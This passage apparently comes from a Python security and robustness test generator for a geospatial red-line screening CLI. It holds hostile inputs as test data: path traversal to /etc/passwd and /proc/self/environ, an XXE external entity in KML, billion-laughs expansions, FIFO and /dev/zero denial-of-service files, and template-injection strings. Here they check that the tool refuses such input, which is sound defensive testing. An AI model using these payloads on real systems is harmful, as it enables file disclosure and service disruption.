    add_check("archives/fifo-geojson", cat, "a FIFO named .geojson as the footprint", [fifo],
              "error", dos=True)
    fifo2 = A / "fifo.txt"
    os.mkfifo(fifo2)
    add_check("archives/fifo-txt", cat, "a FIFO named .txt as the footprint", [fifo2], "error",
              dos=True)
    add_check("archives/dev-zero", cat, "/dev/zero as the footprint", ["/dev/zero"], "error",
              dos=True)
    os.symlink("/dev/zero", A / "zero.txt")
    add_check("archives/dev-zero-txt", cat, "a .txt symlink to /dev/zero", [A / "zero.txt"],
              "error", dos=True)
    os.symlink("/dev/urandom", A / "urandom.txt")
    add_check("archives/dev-urandom-txt", cat, "a .txt symlink to /dev/urandom",
              [A / "urandom.txt"], "error", dos=True)


# --------------------------------------------------------------------------- project lists

_marker_no = [0]


def new_marker(payload_index: int) -> int:
    """A fresh marker number k with k % len(TEMPLATES) == payload_index."""
    n = len(TEMPLATES)
    k = _marker_no[0] * n + payload_index
    _marker_no[0] += 1
    return k


def issue_rows(rng, L: Path) -> list[tuple]:
    """The per-row failures named in issue 10: (id, description, row, expectation, extra)."""
    import shapely

    red = K.red_ll
    rw = _wkt_coords(red.exterior)
    c = K.red_gk.centroid
    fp = L / "fp"
    fp.mkdir(parents=True, exist_ok=True)
    out = []

    def o(cid, desc, row, expect, **kw):
        out.append((cid, desc, row, expect, kw))

    o("empty-part", "MULTIPOLYGON with an EMPTY part", {"wkt": f"MULTIPOLYGON ((({rw})), EMPTY)"},
      "hit|error")
    o("empty-part-first", "MULTIPOLYGON whose first part is EMPTY",
      {"wkt": f"MULTIPOLYGON (EMPTY, (({rw})))"}, "hit|error")
    o("gc-empty-point", "GEOMETRYCOLLECTION of the red polygon and POINT EMPTY",
      {"wkt": f"GEOMETRYCOLLECTION (POLYGON (({rw})), POINT EMPTY)"}, "hit|error")
    doc = txt_doc(K.red_gk)
    _mut_noprefix(doc, rng)
    doc.set("带号", "nan")
    _w(fp / "zone-nan.txt", doc.render())
    o("txt-zone-nan", "文件: TXT with 带号=nan (eastings without prefix)",
      {"文件": "fp/zone-nan.txt"}, "hit|error")
    doc = txt_doc(K.red_gk)
    doc.set("带号", "nan")
    _w(fp / "zone-nan-prefixed.txt", doc.render())
    o("txt-zone-nan-prefixed", "文件: TXT with 带号=nan (prefixed eastings)",
      {"文件": "fp/zone-nan-prefixed.txt"}, "hit|error")
    for v in ("1e400", "nan"):
        doc = txt_doc(K.red_gk)
        doc.parcels[0].count = v
        _w(fp / f"count-{v}.txt", doc.render())
        o(f"txt-count-{v}", f"文件: TXT with 界址点数={v}", {"文件": f"fp/count-{v}.txt"},
          "hit|error")
    _w(fp / "line-1pt.txt", TxtDoc(parcels=[TxtParcel(rings=[[(c.y, c.x)]], kind="线")]).render())
    o("txt-line-1pt", "文件: TXT with a one-point 线 parcel", {"文件": "fp/line-1pt.txt"},
      "not_clean|error")
    _w(fp / "fake.zip", "not a zip\n")
    o("fake-zip", "文件: a text file named .zip", {"文件": "fp/fake.zip"}, "error")
    gdf([red]).to_parquet(fp / "red.parquet")
    b = bytearray((fp / "red.parquet").read_bytes())
    b[len(b) // 2: len(b) // 2 + 40] = bytes(rng.randrange(256) for _ in range(40))
    _w(fp / "corrupt.parquet", bytes(b))
    o("corrupt-parquet", "文件: a corrupt GeoParquet", {"文件": "fp/corrupt.parquet"}, "hit|error")
    o("parquet", "文件: a valid GeoParquet in the red line (control)", {"文件": "fp/red.parquet"},
      "hit")
    pts = shapely.get_coordinates(red.exterior)
    arc = ", ".join(f"{x:.9f} {y:.9f}" for x, y in pts[:3])
    rest = ", ".join(f"{x:.9f} {y:.9f}" for x, y in pts[2:])
    o("curvepolygon", "CURVEPOLYGON WKT in the red line",
      {"wkt": f"CURVEPOLYGON (COMPOUNDCURVE (CIRCULARSTRING ({arc}), ({rest})))"}, "hit|error")
    o("circularstring", "CIRCULARSTRING WKT in the red line",
      {"wkt": f"CIRCULARSTRING ({arc})"}, "hit|error")
    o("multisurface", "MULTISURFACE WKT in the red line",
      {"wkt": f"MULTISURFACE (CURVEPOLYGON (({rw})))"}, "hit|error")
    zm = ", ".join(f"{x:.9f} {y:.9f} 1100 7" for x, y in pts)
    o("polygon-zm", "POLYGON ZM WKT in the red line", {"wkt": f"POLYGON ZM (({zm}))"},
      "hit|error")
    o("polygon-m", "POLYGON M WKT in the red line",
      {"wkt": "POLYGON M ((" + ", ".join(f"{x:.9f} {y:.9f} 7" for x, y in pts) + "))"},
      "hit|error")
    o("polygon-z", "POLYGON Z WKT in the red line",
      {"wkt": "POLYGON Z ((" + ", ".join(f"{x:.9f} {y:.9f} 1100" for x, y in pts) + "))"},
      "hit|error")
    plain = shapely.transform(K.red_gk, lambda xy: xy - [36_000_000, 0])
    custom = ('PROJCS["工程坐标系 CM108",GEOGCS["CGCS2000",DATUM["China_2000",SPHEROID["CGCS2000",'
              '6378137,298.257222101]],PRIMEM["Greenwich",0],UNIT["degree",0.0174532925199433]],'
              'PROJECTION["Transverse_Mercator"],PARAMETER["latitude_of_origin",0],'
              'PARAMETER["central_meridian",108],PARAMETER["scale_factor",1],'
              'PARAMETER["false_easting",500000],PARAMETER["false_northing",0],UNIT["metre",1]]')
    o("custom-crs-wkt", "坐标系: a custom CRS WKT (GK CM108), plain GK metres",
      {"wkt": plain.wkt, "坐标系": custom}, "hit|error")
    o("custom-crs-proj", "坐标系: a PROJ string (tmerc CM108)",
      {"wkt": plain.wkt, "坐标系": "+proj=tmerc +lat_0=0 +lon_0=108 +k=1 +x_0=500000 +y_0=0 "
                                  "+ellps=GRS80 +units=m +no_defs"}, "hit|error")
    o("crs-unknown-epsg", "坐标系: EPSG:99999", {"wkt": red.wkt, "坐标系": "EPSG:99999"}, "error")
    o("crs-unit-sphere", "坐标系: +proj=longlat +a=1 +b=1", {"wkt": red.wkt,
                                                          "坐标系": "+proj=longlat +a=1 +b=1"}, "any")
    o("crs-huge", "坐标系: 200 kB of junk", {"wkt": red.wkt, "坐标系": "x" * 200_000}, "error")
    o("name-nul", "a NUL character in the project name",
      {"wkt": red.wkt, "项目名称": "项目\x00名称"}, "hit|error")
    o("name-vt", "a \\x0b (vertical tab) in the project name",
      {"wkt": red.wkt, "项目名称": "项目\x0b名称"}, "hit|error")
    o("name-ctrl", "C0 control characters and an ANSI escape in the name",
      {"wkt": red.wkt, "项目名称": "a\x01\x02\x1b[31mred\x1b[0m\x7f"}, "hit|error")
    o("name-40k", "a 40,000-character project name (over Excel's cell limit)",
      {"wkt": red.wkt, "项目名称": "长" * 40_000}, "hit|error")
    # found by screening 300 random boxes: the map of this one fails in clip_by_rect
    o("box-200m-map", "a valid 200 m box in 贵阳 (106.4284, 26.5151) whose map vicinity "
      "trips GEOS", {"wkt": "POLYGON ((106.42944836415397 26.514185834154542, 106.42942381306423 "
                            "26.51599027339957, 106.42741807609572 26.515968171162516, "
                            "106.42744265850745 26.51416373365244, 106.42944836415397 "
                            "26.514185834154542))"}, "any")
    o("energy-negative", "年综合能耗 -62000 for a 两高 industry (must be refused)",
      {"wkt": red.wkt, "行业代码": "C2614", "建设性质": "新建", "年综合能耗": "-62000"}, "error")
    for v in ("nan", "inf", "1e400"):
        o(f"energy-{v}", f"年综合能耗 {v}", {"wkt": red.wkt, "行业代码": "C2614", "年综合能耗": v},
          "error")
    o("takes-land-junk", "是否占地 'maybe'", {"wkt": red.wkt, "是否占地": "maybe"}, "error")
    o("activity-junk", "有限人为活动类别 99", {"wkt": red.wkt, "有限人为活动类别": "99"}, "error")
    o("industry-junk", "行业代码 ZZ99", {"wkt": red.wkt, "行业代码": "ZZ99"}, "error")
    o("markup-name", "rich markup '[/]' and '[bold]' in the name",
      {"wkt": red.wkt, "项目名称": "[bold]红线[/] [/]"}, "hit")
    o("markup-id", "rich markup '[/]' as the project id", {"wkt": red.wkt, "项目编号": "[/]"}, "hit")
    return out


def gen_lists(rng):
    cat = "lists"
    L = WORK.lists
    red = K.red_ll
    # --- the issue's per-row failures, each alone (with two sentinel rows) ...
    irows = issue_rows(rng, L)
    for cid, desc, row, expect, kw in irows:
        add_row(f"lists/row-{cid}", cat, desc, row, expect, alone=True, **kw)
    # --- ... and all together with 200 good rows and 40 random 200 m boxes
    boxes = random_boxes(rng, 100)
    internal = []
    for cid, desc, row, expect, kw in irows:
        internal.append(RowCase(CaseInfo(cid, cat, desc), dict(row), expect, **kw))
    for i, b in enumerate(boxes[:40]):
        internal.append(RowCase(CaseInfo(f"box{i}", cat, ""), {"wkt": b.wkt}, "any"))
    for i in range(200):
        r = rng.random()
        if r < 0.4:
            row, e = red_row(rng), "hit"
        elif r < 0.8:
            row, e = clean_row(rng), "clean"
        elif r < 0.9:
            p = K.to_ll(jitter_box(K.red_gk, rng, size=1)).centroid
            row, e = {"经度": f"{p.x:.7f}", "纬度": f"{p.y:.7f}"}, "hit"
        else:
            p = K.to_ll(jitter_box(K.clean_gk, rng, size=1)).centroid
            row, e = {"经度": f"{p.x:.7f}", "纬度": f"{p.y:.7f}"}, "clean"
        internal.append(RowCase(CaseInfo(f"good{i}", cat, ""), row, e))
    for n, r in enumerate(internal):
        r.uid = f"BIG-{n:04d}"
        if "项目编号" not in r.row:
            r.row["项目编号"] = r.uid
        elif "项目名称" not in r.row:
            r.row["项目名称"] = r.uid

    def big():
        res = run_rows(internal, "isolation", bisect=False)
        bad = [(r, res[r.info.id]) for r in internal if res[r.info.id][0] in BAD]
        refused = [(r, res[r.info.id]) for r in internal
                   if res[r.info.id][0] == "clear error" and res[r.info.id][2]]
        if bad:
            worst = max(bad, key=lambda x: BAD.index(x[1][0]))[1][0]
            if len(bad) == len(internal) and len({v[:2] for _, v in bad}) == 1:
                return worst, f"the whole list fails: {bad[0][1][1]}"
            return worst, f"{len(bad)} of {len(internal)} rows fail: " + "; ".join(
                f"{r.info.id}: {v[0]} {v[1][:90]}" for r, v in bad[:4])
        if refused:
            return "clear error", refused[0][1][1], "the whole list was refused"
        return "correct", f"{len(internal)} rows in, all out with a status"

    add("lists/isolation-batch", cat, f"the issue's bad rows + 40 random 200 m boxes + 200 good rows "
        f"in one list ({len(internal)} rows)", big, "ok", weight=40)
    # --- random 200 m boxes in 贵阳 (map generation), batched
    for i, b in enumerate(boxes[40:]):
        add_row(f"lists/box-{i:03d}", cat, f"a valid 200 m box in 贵阳 #{i} at "
                f"{b.centroid.x:.4f},{b.centroid.y:.4f}", {"wkt": b.wkt}, "any")
    # --- template payloads in names and ids (maps on), batched
    for vec, col, fmt in (("csv-name", "项目名称", "csv"), ("csv-id", "项目编号", "csv"),
                          ("xlsx-name", "项目名称", "xlsx")):
        for pi, payload in enumerate(TEMPLATES):
            k = new_marker(pi)
            add_row(f"lists/template-{vec}-{pi}", cat, f"{payload!r} as {col} ({fmt} list, maps)",
                    {col: marked(k), **red_row(rng)}, "hit", k=k, fmt=fmt)
    # --- the 文件 column: file disclosure and paths outside the list folder
    secret = f"SECRET-{rng.getrandbits(64):016x}"
    sec_txt = _w(WORK.outside / "secret.txt", f"{secret} do not disclose\n[属性描述]\n带号=36\n")
    out_red = write_geojson(WORK.outside / "red.geojson", [red])
    os.symlink(sec_txt, L / "link-secret.txt")
    os.symlink(out_red, L / "link-red.geojson")
    rel_sec, rel_red = os.path.relpath(sec_txt, L), os.path.relpath(out_red, L)
    zred = write_zip(WORK.outside / "red.zip", {p.name: p for p in shp_members(
        write_shp(WORK.outside / "shp" / "red.shp", gdf([red])))})
    disc = [
        ("secret-relative", f"文件 {rel_sec} (a secret TXT outside the list folder)",
         {"文件": rel_sec}, dict(secret=secret, outside=True)),
        ("secret-absolute", "文件: absolute path of a secret TXT outside the folder",
         {"文件": str(sec_txt)}, dict(secret=secret, outside=True)),
        ("secret-dotdot", "文件 fp/../" + rel_sec, {"文件": "fp/../" + rel_sec},
         dict(secret=secret, outside=True)),
        ("secret-symlink", "文件: a symlink in the folder pointing at the secret TXT",
         {"文件": "link-secret.txt"}, dict(secret=secret, outside=True)),
        ("red-relative", f"文件 {rel_red} (a valid footprint outside the folder)",
         {"文件": rel_red}, dict(outside=True)),
        ("red-absolute", "文件: absolute path of a footprint outside the folder",
         {"文件": str(out_red)}, dict(outside=True)),
        ("red-symlink", "文件: a symlink in the folder to a footprint outside it",
         {"文件": "link-red.geojson"}, dict(outside=True)),
        ("red-file-uri", "文件: file:// URI of a footprint outside", {"文件": out_red.as_uri()},
         dict(outside=True)),
        ("red-vsizip", "文件: GDAL /vsizip/ path to a zip outside",
         {"文件": f"/vsizip/{zred}/red.shp"}, dict(outside=True)),
        ("vsicurl", "文件: /vsicurl/ URL", {"文件": "/vsicurl/http://127.0.0.1:9/x.geojson"},
         dict(outside=True)),
        ("environ", "文件: /proc/self/environ", {"文件": "/proc/self/environ"},
         dict(secret=CANARY_ENV, outside=True)),
        ("nul-path", "文件 with a NUL byte", {"文件": "fp/red.parquet\x00.txt"}, {}),
        ("long-path", "文件: a 5,000-character name", {"文件": "a" * 5000 + ".geojson"}, {}),
        ("dir-path", "文件: the list folder itself", {"文件": "."}, {}),
        ("home-path", "文件 ~/x.geojson", {"文件": "~/x.geojson"}, {}),
    ]
    try:
        first = Path("/etc/passwd").read_text().splitlines()[0]
        disc.append(("etc-passwd", "文件 ../../../../../../etc/passwd",
                     {"文件": "../" * 12 + "etc/passwd"}, dict(secret=first, outside=True)))
    except (OSError, IndexError):
        pass
    for cid, desc, row, kw in disc:
        add_row(f"lists/file-{cid}", cat, desc, row, "error", alone=True, **kw)
    # --- DoS through the 文件 column (alone: they may hang)
    os.mkfifo(L / "fp" / "fifo.txt")
    os.mkfifo(L / "fp" / "fifo.geojson")
    os.symlink("/dev/zero", L / "fp" / "zero.txt")
    for cid, path in (("fifo-txt", "fp/fifo.txt"), ("fifo-geojson", "fp/fifo.geojson"),
                      ("zero-txt", "fp/zero.txt"), ("dev-zero", "/dev/zero")):
        add_row(f"lists/dos-{cid}", cat, f"文件 {path}", {"文件": path}, "error", alone=True,
                dos=True)
    # --- random attribute junk, batched
    gen_attr_rows(rng)
    # --- whole-list cases
    gen_list_files(rng)


def random_boxes(rng, n):
    import shapely

    x0, y0, x1, y1 = K.region_gk.bounds
    inner = K.region_gk.buffer(-300)
    shapely.prepare(inner)
    out = []
    while len(out) < n:
        p = shapely.Point(rng.uniform(x0, x1), rng.uniform(y0, y1))
        if inner.contains(p):
            out.append(K.to_ll(shapely.box(p.x - 100, p.y - 100, p.x + 100, p.y + 100)))
    return out


ATTRS = {  # column -> (valid values, invalid values)
    "是否占地": (["是", "否", "yes", "no", "1", "0", " 是 ", "TRUE"], ["maybe", "否否", "2", "nan"]),
    "有限人为活动类别": ([str(i) for i in range(1, 11)], ["0", "11", "abc", "-1", "1e400"]),
    "重大项目类别": (["transport", "grid", "energy", "water", "central"],
                   ["nuclear-ish", "[/]", "{{7*7}}", "transport; drop"]),
    "项目类型": (["linear", "rural", "other", "industrial_park", "urban_construction"],
             ["factory", "<b>x</b>"]),
    "行业代码": (["C2614", "c 2614", "C26", "D4415", "G5951"], ["ZZ", "C99", "2614x", "Ｃ２６"]),
    "年综合能耗": (["62000", "0", "12.5", "5e4"], ["-5", "nan", "inf", "1e400", "abc", "6.2万"]),
    "坐标类型": ([], ["xyz", "gcj-03", "{{7*7}}"]),
    "坐标系": (["4490", "EPSG:4490", "EPSG:4326"], ["EPSG:0", "+proj=junk", "西安80"]),
    "建设性质": (["新建", "扩建", "改建"], []),
}


def udb_outside_state(row: dict) -> str:
    """The 城镇开发边界 state of a site outside the UDB, by layers/rules/three_lines.yaml.

    UDB-outside-urban: 城镇集中建设 / 开发区、产业园区 / 城镇居住用地 are 禁止 outside the UDB
    (自然资发〔2023〕193号, domain.md §1.4); UDB-outside-industrial: an industrial project (also
    inferred from a C/D-section 行业代码 when no 项目类型 is given) and UDB-outside-unknown:
    no declared kind need review; UDB-outside-allowed: linear, special-siting and rural
    projects are 不涉及 (worded 符合); UDB-outside-other: 其他 needs review (the guideline
    admits no such category, domain.md §1.4).
    """
    ptype = (row.get("项目类型") or "").strip()
    if not ptype and (row.get("行业代码") or "").strip()[:1].upper() in ("C", "D"):
        ptype = "industrial"
    if ptype in ("urban_construction", "industrial_park", "urban_residential"):
        return "prohibited"
    if ptype in ("linear", "special_siting", "rural"):
        return NI
    return "needs_review"  # industrial, not given, 其他 (or any type the rules do not list)


def gen_attr_rows(rng):
    for i in range(OPTS.n_listrows):
        red = rng.random() < 0.7
        outside = not red and rng.random() < 0.5
        row = red_row(rng) if red else outside_row(rng) if outside else clean_row(rng)
        base = "hit" if red else "clean"
        expect, tags = base, []
        for col in rng.sample(sorted(ATTRS), rng.randint(1, 3)):
            good, bad = ATTRS[col]
            if bad and (not good or rng.random() < 0.45):
                row[col] = rng.choice(bad)
                expect = "error"
            else:
                row[col] = rng.choice(good)
            tags.append(f"{col}={row[col]!r}")
        if rng.random() < 0.25:  # lon/lat instead of WKT
            p = (K.red_ll if red else K.clean_ll).centroid
            del row["wkt"]
            lon, lat = f"{p.x:.7f}", f"{p.y:.7f}"
            junk = rng.choice([None, "°", ",", "swap", "nan", "space"])
            if junk == "°":
                lon += "°"
            elif junk == ",":
                lon = lon.replace(".", ",")
            elif junk == "swap":
                lon, lat = lat, lon
            elif junk == "nan":
                lat = "nan"
            elif junk == "space":
                lon = " " + lon + " "
            row.update({"经度": lon, "纬度": lat})
            tags.append(f"lon/lat {junk or 'plain'}")
            if junk in ("°", ",", "nan") and expect != "error":
                expect = f"{base}|error"
        if expect == base and expect == "hit" and any(c in row for c in ("坐标系",)):
            expect = "hit|error"
        if not red and expect != "error":
            # 行业代码 etc. may make the site prohibited by a 三线一单 access list: judge the red
            # line, and the UDB (不涉及 inside the concentrated zone, by 项目类型 outside it)
            udb = udb_outside_state(row) if outside else NI
            expect = expect.replace("clean", f"clean_eco+udb={udb}")
        add_row(f"lists/attrs-{i:03d}", "lists", f"random attributes ({'red' if red else 'outside UDB' if outside else 'clean'}): "
                + ", ".join(tags), row, expect)
    # every construction kind outside and inside the UDB: the 城镇开发边界 verdict by the rules
    kinds = [{"项目类型": t} for t in ("urban_construction", "industrial_park", "urban_residential",
                                    "industrial", "linear", "special_siting", "rural", "other")]
    kinds += [{}, {"行业代码": "C2614"}, {"行业代码": "G5951"},
              {"行业代码": "C2614", "项目类型": "special_siting"}]
    for j, attrs in enumerate(kinds):
        tag = ", ".join(f"{k}={v}" for k, v in attrs.items()) or "no 项目类型"
        add_row(f"lists/udb-outside-{j:02d}", "lists", f"outside the UDB, {tag}",
                outside_row(rng, **attrs), f"clean_eco+udb={udb_outside_state(attrs)}")
        add_row(f"lists/udb-inside-{j:02d}", "lists", f"in a 城镇集中建设区, {tag}",
                clean_row(rng, **attrs), f"clean_eco+udb={NI}")


def judge_list_run(run: Run, out: Path, expects: list | None, whole: str, scan=None,
                   rows_in: int | None = None):
    """A whole-list case: expects = per-row expectations (None: only rows in = rows out)."""
    ev = [e for _, e in scan_outputs(scan or Scan(), run, [out])]
    if ev:
        return ev_outcome(ev), "; ".join(ev[:3])
    b = base_outcome(run)
    if b:
        return b
    if run.rc != 0:
        return refusal(run, whole)
    if whole == "error":
        return "silent wrong", "exit 0; the list must be refused"
    data = parse_json((out / "results.json").read_text("utf-8")) \
        if (out / "results.json").exists() else None
    if not isinstance(data, dict):
        return "silent wrong", "exit 0 but no results.json"
    res = data.get("results") or []
    n = rows_in if rows_in is not None else (len(expects) if expects is not None else None)
    if n is not None and len(res) != n:
        return "silent wrong", f"{n} rows in, {len(res)} rows in results.json"
    for i, (d, e) in enumerate(zip(res, expects or [], strict=False)):
        o, why, _ = judge_result(d, e)
        if o not in ("correct", "clear error"):
            return o, f"row {i + 1}: {why}"
    return "correct", f"{len(res)} rows out"


def add_list_case(cid, desc, path, expects, whole="ok", args=(), scan=None, rows_in=None,
                  weight=4.0, cat="lists", dos=False, timeout=None):
    if dos:
        weight = max(weight, OPTS.dos_timeout)
        timeout = OPTS.dos_timeout

    def fn():
        out = out_dir(cid.replace("/", "_"))
        run = run_cli(["screen", path, "--out", out, *args], cwd=Path(path).parent
                      if Path(path).parent.exists() else None, timeout=timeout)
        r = judge_list_run(run, out, expects, whole, scan, rows_in)
        if r[0] in ("correct", "clear error"):
            _cleanup(out)
        return r
    return add(cid, cat, desc, fn, whole, weight)


def gen_list_files(rng):
    import shapely

    F = WORK.lists / "files"
    F.mkdir(parents=True, exist_ok=True)
    red, clean = K.red_ll, K.clean_ll
    three = [red_row(rng), clean_row(rng), red_row(rng)]
    exp3 = ["hit", "clean", "hit"]
    add_list_case("lists/csv-control", "a plain CSV list (control)",
                  write_list(three, F / "control.csv"), exp3)
    _w(F / "empty.csv", b"")
    add_list_case("lists/csv-empty", "an empty CSV file", F / "empty.csv", None, "error")
    _w(F / "header.csv", ",".join(LIST_COLS) + "\n")
    add_list_case("lists/csv-header-only", "a CSV with only the header", F / "header.csv", [],
                  "any")
    _w(F / "bom.csv", b"\xef\xbb\xbf")
    add_list_case("lists/csv-bom-only", "a CSV holding only a BOM", F / "bom.csv", None, "error")
    _w(F / "nocol.csv", "项目编号,备注\nA,x\n")
    add_list_case("lists/csv-no-footprint-column", "no WKT, lon/lat or 文件 column",
                  F / "nocol.csv", None, "error")
    text = ",".join(LIST_COLS) + "\n" + "".join(",".join(_csv_field(r.get(c)) for c in LIST_COLS)
                                                + "\n" for r in [dict(x, 项目名称="红线项目") for x in three])
    _w(F / "gbk.csv", text.encode("gbk"))
    add_list_case("lists/csv-gbk", "a GBK-encoded CSV", F / "gbk.csv", exp3)
    _w(F / "utf16.csv", text.encode("utf-16"))
    add_list_case("lists/csv-utf16", "a UTF-16 CSV", F / "utf16.csv", None, "any")
    _w(F / "nul.csv", text.replace("红线项目", "红线\x00项目", 1))
    add_list_case("lists/csv-nul", "a CSV with a NUL byte in a field", F / "nul.csv", None, "any",
                  rows_in=3)
    lines = text.splitlines()
    lines[2] += ',"extra","fields"'
    _w(F / "ragged.csv", "\n".join(lines) + "\n")
    add_list_case("lists/csv-ragged", "a CSV row with more fields than the header",
                  F / "ragged.csv", None, "any")
    _w(F / "quote.csv", text.replace('"红线项目"', '"红线项目', 1))
    add_list_case("lists/csv-unbalanced-quote", "a CSV with an unbalanced quote", F / "quote.csv",
                  None, "any")
    _w(F / "dupcols.csv", "wkt,wkt,项目编号\n" + f'"{red.wkt}","{clean.wkt}",A\n')
    add_list_case("lists/csv-duplicate-columns", "two wkt columns (red first)",
                  F / "dupcols.csv", ["hit"], "any")
    _w(F / "fidgeom.csv", "fid,geom,项目编号\n" + f'7,"{red.wkt}",A\n')
    add_list_case("lists/csv-fid-geom", "columns named fid and geom", F / "fidgeom.csv", ["hit"])
    _w(F / "headers.csv", " WKT ,\ufeff项目名称 , 项目编号\n" + f'"{red.wkt}",x,A\n')
    add_list_case("lists/csv-header-spacing", "headers with spaces, case and a stray BOM",
                  F / "headers.csv", ["hit"], "any")
    big_wkt = shapely.segmentize(red, 0.0000002).wkt
    _w(F / "bigfield.csv", f'wkt,项目编号\n"{big_wkt}",A\n')
    add_list_case("lists/csv-big-field", f"a {len(big_wkt) / 1e6:.1f} MB WKT field",
                  F / "bigfield.csv", ["hit|error"])
    rows = [clean_row(rng) for _ in range(2000)]
    add_list_case("lists/csv-2000-rows", "2,000 clean rows (--no-maps; timeout ×3)",
                  write_list(rows, F / "2000.csv"), None, "ok", args=("--no-maps",),
                  rows_in=2000, weight=40, timeout=3 * OPTS.timeout)
    add_list_case("lists/xlsx-control", "an XLSX list (control)",
                  write_list(three, F / "control.xlsx", "xlsx"), exp3)
    add_list_case("lists/xlsx-sheet-missing", "--sheet that does not exist", F / "control.xlsx",
                  None, "error", args=("--sheet", "nope"))
    _w(F / "csv.xlsx", text)
    add_list_case("lists/xlsx-is-csv", "CSV text named .xlsx", F / "csv.xlsx", None, "error")
    write_zip(F / "zip.xlsx", {"a.txt": b"x"})
    add_list_case("lists/xlsx-is-zip", "a zip that is not a workbook, named .xlsx",
                  F / "zip.xlsx", None, "error")
    _w(F / "fake.xls", text)
    add_list_case("lists/xls-fake", "CSV text named .xls", F / "fake.xls", None, "error")
    add_list_case("lists/xlsx-empty", "an XLSX with the header only",
                  write_list([], F / "empty.xlsx", "xlsx"), [], "any")
    from openpyxl import Workbook

    wb = Workbook()
    ws = wb.active
    ws.append(["项目编号", "项目名称", "wkt", "年综合能耗"])
    ws.append([1, "=1+1", red.wkt, "=60000+2000"])
    ws.append([2.5, None, red.wkt, 62000])
    ws.append(["merged", "x", red.wkt, None])
    ws.merge_cells("A4:B4")
    from datetime import datetime
    ws.append([datetime(2024, 1, 1), "date id", red.wkt, datetime(2024, 1, 2)])
    wb.save(F / "odd.xlsx")
    add_list_case("lists/xlsx-odd-cells", "XLSX with numeric ids, input formulas, merged cells "
                  "and dates", F / "odd.xlsx", None, "any", rows_in=4)
    shutil.copy(F / "control.xlsx", F / "control.xlsm")
    add_list_case("lists/xlsm", "an .xlsm list", F / "control.xlsm", exp3, "any")
    # vector lists
    gl = write_geojson(F / "list.geojson", [red, clean, red],
                       props=[{"项目编号": "A", "项目名称": "红"}, {"项目编号": "B", "项目名称": "净"},
                              {"项目编号": "C", "项目名称": "红2"}])
    add_list_case("lists/geojson-list", "a GeoJSON list (control)", gl, exp3)
    gn = write_geojson(F / "nullgeom.geojson", [red, None, clean])
    add_list_case("lists/geojson-null-geometry", "a GeoJSON list with a null geometry",
                  gn, ["hit", "error", "clean"])
    gp = write_gpkg_layers(F / "two-layers.gpkg", {
        "a": gdf([clean, clean], 项目编号=["A1", "A2"]),
        "b": gdf([red, red, red], 项目编号=["B1", "B2", "B3"])})
    add_list_case("lists/gpkg-two-layers", "a GeoPackage list with two layers (2 + 3 projects)",
                  gp, None, "ok", rows_in=5)
    secret = f"XXE-SECRET-{rng.getrandbits(48):012x}"
    sf = _w(WORK.outside / "xxe.txt", secret)
    xxe = f'<!DOCTYPE kml [<!ENTITY xxe SYSTEM "{sf.as_uri()}">]>\n'
    kx = _w(F / "xxe.kml", kml_text([[red, clean]], doctype=xxe, names=["&xxe;", "b"]))
    add_list_case("lists/kml-xxe", "a KML list whose name is an external entity (secret file)",
                  kx, None, "any", scan=Scan(secrets=[secret]))
    lol = '<!DOCTYPE kml [<!ENTITY a "lollollollollollollollollollol">' + "".join(
        f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(9)) + "]>\n"
    kl = _w(F / "laughs.kml", kml_text([[red]], doctype=lol, names=["&j;"]))
    add_list_case("lists/kml-billion-laughs", "a KML list with a billion-laughs name", kl, None,
                  "any", weight=15)
    pq = F / "corrupt.parquet"
    gdf([red]).to_parquet(pq)
    b = bytearray(pq.read_bytes())
    b[len(b) // 2: len(b) // 2 + 32] = bytes(32)
    _w(pq, bytes(b))
    add_list_case("lists/parquet-corrupt", "a corrupt GeoParquet list", pq, None, "any")
    # TXT as the list (rows = parcels)
    doc = txt_doc(K.red_gk)
    doc.parcels.append(TxtParcel(rings=txt_rings(K.clean_gk), no="2", name="净"))
    doc.parcels.append(TxtParcel(rings=txt_rings(jitter_box(K.red_gk, rng)), no="3", name="红2"))
    add_list_case("lists/txt-list", "a 部标 TXT list with three parcels (control)",
                  _w(F / "parcels.txt", doc.render()), exp3)
    doc = txt_doc(K.red_gk)
    c = K.red_gk.centroid
    doc.parcels.append(TxtParcel(rings=[[(c.y, c.x)]], no="2", kind="线"))
    doc.parcels.append(TxtParcel(rings=txt_rings(K.clean_gk), no="3"))
    add_list_case("lists/txt-list-one-point-line", "a TXT list: red parcel, a one-point 线 parcel, "
                  "a clean parcel", _w(F / "parcels-1pt.txt", doc.render()),
                  ["hit", "not_clean|error", "clean"], "ok")
    for pi, payload in enumerate(TEMPLATES):
        k = new_marker(pi)
        doc = txt_doc(K.red_gk)
        doc.parcels[0].name = marked(k)
        add_list_case(f"lists/template-txt-parcel-{pi}", f"{payload!r} as the 部标 TXT parcel name "
                      "(TXT list, maps)", _w(F / f"tpl-{pi}.txt", doc.render()), ["hit"],
                      scan=Scan(markers={k: payload}))
    for pi, payload in enumerate(TEMPLATES):
        k = new_marker(pi)
        kml = kml_text([[red]], names=[html.escape(marked(k))])
        add_list_case(f"lists/template-kml-name-{pi}", f"{payload!r} as a KML placemark name "
                      "(KML list, maps)", _w(F / f"tpl-{pi}.kml", kml), ["hit"],
                      scan=Scan(markers={k: payload}))
    # special files as the list itself
    os.mkfifo(F / "fifo.csv")
    add_list_case("lists/list-fifo", "the list is a FIFO named .csv", F / "fifo.csv", None, "error",
                  dos=True)
    os.symlink("/dev/zero", F / "zero.csv")
    add_list_case("lists/list-dev-zero", "the list is a .csv symlink to /dev/zero", F / "zero.csv",
                  None, "error", dos=True)
    add_list_case("lists/list-directory", "the list is a directory", F, None, "error")


# --------------------------------------------------------------------------- catalogs


def base_catalog(region="guiyang") -> dict:
    """The bundled catalog with every path made absolute (so a copy works anywhere)."""
    import yaml

    path = K.catalogs[region]
    c = yaml.safe_load(path.read_text("utf-8"))
    for spec in c["layers"].values():
        for k in ("path", "rules"):  # a layer's data and its own rule file (constraints)
            if isinstance(spec.get(k), str):
                spec[k] = str((path.parent / spec[k]).resolve())
    for k in ("rules", "access_rules"):
        if c.get(k):
            c[k] = str((path.parent / c[k]).resolve())
    return c


def write_catalog(name: str, c=None, text=None) -> Path:
    import yaml

    p = WORK.files / "catalogs" / f"{name}.yaml"
    p.parent.mkdir(parents=True, exist_ok=True)
    if text is not None:
        return _w(p, text)
    return _w(p, yaml.safe_dump(c, allow_unicode=True, sort_keys=False))


def laughs(depth=9, key_prefix="l") -> str:
    out = [f'{key_prefix}0: &{key_prefix}0 ["lol", "lol", "lol", "lol", "lol", "lol", "lol", '
           '"lol", "lol"]']
